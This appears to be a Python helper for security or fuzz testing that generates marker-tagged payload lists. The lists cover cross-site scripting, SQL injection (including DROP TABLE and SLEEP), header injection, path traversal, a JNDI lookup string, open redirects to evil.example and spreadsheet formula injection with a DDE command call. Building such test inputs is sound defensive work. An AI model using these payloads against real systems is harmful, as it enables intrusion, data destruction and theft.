"""What somebody might type who means harm."""

from __future__ import annotations

from itertools import cycle, islice, product

MARK = "zq9"
"""Stands in every payload, so that a page can be asked whether one came alive."""

_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter",
    "onbeforeinput", "onauxclick",
)  # fmt: skip
_ELEMENTS = (
    "<img src={m} {e}=alert('{m}')>",
    "<svg/{e}=alert`{m}`>",
    "<body {e}=alert('{m}')>",
    "<input autofocus {e}={m}>",
    "<details open {e}={m}>",
    "<video><source {e}={m}></video>",
    "<iframe srcdoc='<b {e}={m}>'></iframe>",
    "<{m} {e}={m} tabindex=1>",
    "\"><a {e}='{m}'>x</a>",
    "' {e}='{m}' x='",
    '" {e}="{m}" x="',
    "--><img {e}={m} src=x><!--",
    "</textarea><img {e}={m} src=x>",
    "</title><img {e}={m} src=x>",
    "</script><img {e}={m} src=x>",
    "</template><img {e}={m} src=x>",
    "\n{e}={m}\n",
    "` {e}={m} `",
    "<math><mtext></table><img {e}={m} src=x>",
    "<style><img src='</style><img {e}={m} src=x>'>",
)
_ALONE = (
    "<script>alert('{m}')</script>",
    "<ScRiPt src=//{m}></ScRiPt>",
    "<a href=javascript:alert('{m}')>x</a>",
    "<a href=' \tjava&#x0A;script:{m}'>x</a>",
    "<form action=javascript:{m}><button>x",
    "<button formaction=javascript:{m}>x",
    "<base href=//{m}>",
    "<meta http-equiv=refresh content='0;url=//{m}'>",
    "<object data=//{m}></object>",
    "<embed src=//{m}>",
    "<link rel=stylesheet href=//{m}>",
    "<style>@import '//{m}'</style>",
    "<b style=background:url(//{m})>x</b>",
    "<div hx-get=/{m} hx-trigger=load></div>",
    "<div hx-post=/sign-out hx-trigger=load data-{m}></div>",
    "<div data-hx-on:load={m}></div>",
    '" hx-get="/{m}" hx-trigger="load',
    "' hx-on:click='{m}'",
    "<template shadowrootmode=open>{m}</template>",
    "<hx-partial hx-target='#main'>{m}</hx-partial>",
    "<div data-once data-dialog='{m}'></div>",
    "{{{{ {m}.config }}}}",
    "{{% if {m} %}}",
    "${{{m}}}",
    "%({m})s",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "&#60;img src=x onerror={m}&#62;",
    "<svg><use href='data:image/svg+xml,{m}#x'/></svg>",
    "<img src=data:text/html,{m}>",
    "\u003cscript\u003e{m}\u003c/script\u003e",
    "＜script＞{m}＜/script＞",
    "<noscript><p title='</noscript><img src={m} onerror=x>'>",
)


def xss() -> list[str]:
    """Three hundred, all different: elements, attributes, addresses, htmx, templates."""
    made = [t.format(m=MARK) for t in _ALONE]
    made += [t.format(m=MARK, e=e) for t, e in product(_ELEMENTS, _EVENTS)]
    wrapped = (f"周{payload}" for payload in made)
    return list(islice([*made, *wrapped], 300))


def sql() -> list[str]:
    """A hundred, in the manner of tools that look for holes."""
    heads = ("'", '"', "1", "1)", "')", '")', "x' ", "1 ", "';", "%27")
    tails = (
        " OR 1=1 --", " OR 'a'='a", " UNION SELECT NULL,NULL --", "; DROP TABLE people; --", " AND SLEEP(5) --",
        " AND (SELECT 1 FROM accounts) > 0 --", "; ATTACH DATABASE '/tmp/x' AS x --", " AND randomblob(1000000000) --",
        " LIKE '%", "\\",
    )  # fmt: skip
    return [head + tail for head, tail in product(heads, tails)]


def odd() -> list[str]:
    """Texts that break programs, not rules."""
    return [
        "\x00", "a\x00b", "\r\nSet-Cookie: x=1", "\x1b[31mred", "\ud800", "x\udfff", "\u202eabc", "\u2066x", "𠮷野家",
        "👩‍👩‍👧‍👦", "\ufeff", "\u200b", "a" * 5000, "９" * 30, "-1", "1e999", "NaN", "0x10", "99999999999999999999",
        "2022-02-30", "25:61", "\t", " ", "\n" * 50, "ß" * 200, "İ", "ﬁ", "%00", "../../etc/passwd", "${jndi:ldap://x}",
    ]  # fmt: skip


REDIRECTS = [
    f"{start}{host}"
    for start in (
        "https://", "http://", "//", "///", "////", "/\\", "\\\\", "\\/", "/\\/", "http:", "https:/", "\t//", "\n//",
        " //", "/\t/", "/\n/", "\x00//", "/%09/", "javascript://", "data:text/html,",
    )
    for host in ("evil.example", "evil.example/%2f..", "localhost@evil.example")
]  # fmt: skip
"""Sixty addresses that a browser might take for another site."""

FORMULAS = [
    sign + body
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
    for body in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://x","y")',
        "SUM(A1:A9)",
        "DDE(1)",
        "IMPORTXML(1)",
    )
]
"""Sixty that a spreadsheet might compute."""


def rotating(texts: list[str], start: int) -> cycle[str]:
    """The texts round and round, beginning with number `start`."""
    turned = texts[start % len(texts) :] + texts[: start % len(texts)]
    return cycle(turned)
